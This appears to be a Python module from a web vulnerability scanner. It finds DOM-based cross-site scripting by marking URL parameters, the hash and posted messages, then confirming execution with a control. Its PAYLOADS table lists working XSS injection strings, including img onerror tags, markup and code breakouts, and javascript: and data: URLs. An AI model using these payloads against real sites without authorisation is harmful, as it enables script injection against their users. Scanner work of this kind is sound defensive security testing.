"""The browser as the witness: a page's own script ran what its address, or another window's message, held.

First a harmless marker is put wherever scripts may look for text: it shows which of these places reach a
sink, and what kind of sink that is. Then payloads that fit the sink are tried there until the page computes
and shows a fresh product. The sinks: OWASP DOM based XSS Prevention Cheat Sheet. Marking first and confirming
by execution: Lekies, Stock and Johns, "25 Million Flows Later" (CCS 2013).
"""

import re
from collections.abc import AsyncIterator, Callable, Mapping, Sequence
from functools import partial
from urllib.parse import quote

from msgspec import Struct

from s2n.errors import BudgetSpent, NetworkError
from s2n.model import Confidence
from s2n.s2nscanner.oracles.computed import Product, fresh_product
from s2n.s2nscanner.oracles.pagerun import PageRun, PageRunner, Sink
from s2n.s2nscanner.oracles.probe import Fresh
from s2n.s2nscanner.oracles.proof import Proof

MAX_NAMES = 12
"""Parameters that are tried for one page."""

_SAFE = "()*/:;,-.!~'=?@$"
"""Left as they are in a query: a script that does not decode its address, or not wholly, still gets code."""

_NAMED = re.compile(
    r"""(?:\.get|\.has|getAll|\b\w{0,60}[pP]aram\w{0,60}|[qQ]uery\w{0,60})\(\s*["'`]([\w.\-\[\]]{1,40})["'`]"""
    r"""|[?&]([A-Za-z_][\w.\-]{0,39})=|["'`]([A-Za-z_][\w.\-]{0,39})=["'`]"""
    r"""|\b(?:params|query|searchParams)\.([A-Za-z_]\w{0,39})\b(?!\s*\()"""
)
"""How scripts name the parameters that they read."""

_RUN = "alert({a}*{b})"
_MARKUP = "<img src=x onerror=alert({a}*{b})>"
_OUT_OF_MARKUP = "'\"></select></title></textarea></script><img src=x onerror=alert({a}*{b})>"
_URL = "javascript:alert({a}*{b})//"
_OUT_OF_CODE = tuple(f"{end}{_RUN}//" for end in ("';", '";', "');", '");', "`);"))

PAYLOADS = {
    "markup": (_MARKUP, _OUT_OF_MARKUP),
    "code": (_RUN, _URL, *_OUT_OF_CODE, f"'-{_RUN}-'", f'"-{_RUN}-"'),
    "address": (_URL,),
    "script": (f"data:text/javascript,{_RUN}//",),
}
"""What is tried for each family of sinks, most likely first; ``{a}*{b}`` is the fresh product."""

_FAMILIES = (
    (re.compile(r"^(?:eval|Function|Window set\w+|\w+ on\w+|HTMLScriptElement (?!src)\w+)$"), "code"),
    (re.compile(r"^HTMLScriptElement src$|^Worker|importScripts"), "script"),
    (re.compile(r"^Location|^navigation$"), "address"),
)


def family_of(sink: Sink) -> str:
    """Which of `PAYLOADS` fits: sinks are named as Trusted Types name them, and ``navigation``."""
    return next((family for pattern, family in _FAMILIES if pattern.search(sink.kind)), "markup")


class Place(Struct, frozen=True):
    """Somewhere a script may read text: ``parameter`` names it in reports."""

    parameter: str
    build: Callable[[str], str]
    """A value → the URL that holds it there; for messages, the page's own URL."""
    message: bool = False

    def visit(self, value: str) -> tuple[str, str]:
        """The URL to open and the message to post."""
        return self.build(value), value if self.message else ""


_QUERY = re.compile(r"\?[^:]*")


def names_in(script: str) -> list[str]:
    """The parameters that a script seems to read from its address."""
    found = (name for match in _NAMED.finditer(script) for name in match.groups() if name)
    return list(dict.fromkeys(found))


async def dom_executions(
    url: str, names: Sequence[str], runner: PageRunner, fresh: Fresh
) -> AsyncIterator[tuple[Place, Sink, Proof]]:
    """Each place of the page at ``url`` that its scripts run code from, with the sink and the proof.

    ``names``: parameters that scripts seem to read. Costs one visit where nothing reaches a sink.

    Raises:
        BudgetSpent: a hard limit of the scan is used up. A page that does not open for another reason runs
            nothing.
    """
    bare = url.partition("#")[0]
    page, _, query = bare.partition("?")
    pairs = [part.partition("=")[::2] for part in query.split("&") if part]
    known = dict(pairs)
    marks = {name: fresh.token(12) for name in list(dict.fromkeys((*known, *names)))[:MAX_NAMES]}
    hashed, searched, posted = (fresh.token(12) for _ in range(3))
    query = "&".join((*(f"{name}={mark}" for name, mark in marks.items()), searched))
    places = {
        hashed: Place("location.hash", lambda value: f"{bare}#{_raw(value)}"),
        posted: Place("message", lambda _: bare, message=True),
    }
    places |= {mark: Place(name, _in_query(page, known, name)) for name, mark in marks.items()}
    places[searched] = Place("location.search", lambda value: f"{page}?{_raw(value)}")
    seen = await _opened(runner, f"{page}?{query}#{hashed}", tuple(places), posted)
    done, tried = set[str](), set[tuple[str, str]]()
    for sink, place in ((s, place) for s in seen.sinks for mark, place in places.items() if mark in s.text):
        attempt = place.parameter, family_of(sink)
        if place.parameter in done or attempt in tried:
            continue
        tried.add(attempt)
        proof = await _execution(place, sink, runner, fresh)
        if proof is not None:
            done.add(place.parameter)
            yield place, sink, proof


async def _execution(
    place: Place, sink: Sink, runner: PageRunner, fresh: Fresh, only: str = ""
) -> Proof | None:
    """Try the sink's payloads, or ``only`` one, against a control that holds the same with nothing to run."""
    for template in (only,) if only else PAYLOADS[family_of(sink)]:
        product = fresh_product(fresh)
        payload = _filled(template, product)
        url, message = place.visit(payload)
        run = await _opened(runner, url, message=message, expect=product.answer)
        if product.answer not in run.said or run.exchange is None:
            continue
        url_of_control, message = place.visit(payload.replace("alert(", "void("))
        control = await _opened(runner, url_of_control, message=message, expect=product.answer)
        if control.exchange is None or product.answer in control.said:
            return None
        return Proof(
            exchange=run.exchange,
            control=control.exchange,
            payload=payload,
            evidence=_evidence(place, sink, payload, url)
            + f" it computes and shows {product.a} × {product.b} = {product.answer}.",
            confidence=Confidence.CERTAIN,
            again=partial(_execution, place, sink, runner, fresh, template),
        )
    return None


async def _opened(
    runner: PageRunner, url: str, markers: Sequence[str] = (), message: str = "", expect: str = ""
) -> PageRun:
    try:
        return await runner.run(url, markers, message, expect)
    except BudgetSpent:
        raise
    except NetworkError:
        return PageRun()


def _evidence(place: Place, sink: Sink, payload: str, url: str) -> str:
    at = f" at {_QUERY.sub('', sink.where)}" if sink.where else ""
    how = f"a window of another origin posts {payload!r} to it" if place.message else f"it is opened as {url}"
    return f"In the browser the page hands {place.parameter} to {sink.kind}{at}; when {how},"


def _filled(template: str, product: Product) -> str:
    return template.replace("{a}", str(product.a)).replace("{b}", str(product.b))


def _raw(value: str) -> str:
    """As somebody would write it into a link: the browser encodes the rest by itself."""
    return quote(value, safe=f"{_SAFE}<>\"'`=+&?#[]{{}}|^ ").replace("#", "%23").replace(" ", "%20")


def _in_query(page: str, known: Mapping[str, str], name: str) -> Callable[[str], str]:
    others = [f"{key}={value}" for key, value in known.items() if key != name]
    return lambda value: f"{page}?{'&'.join((*others, f'{name}={quote(value, safe=_SAFE)}'))}"
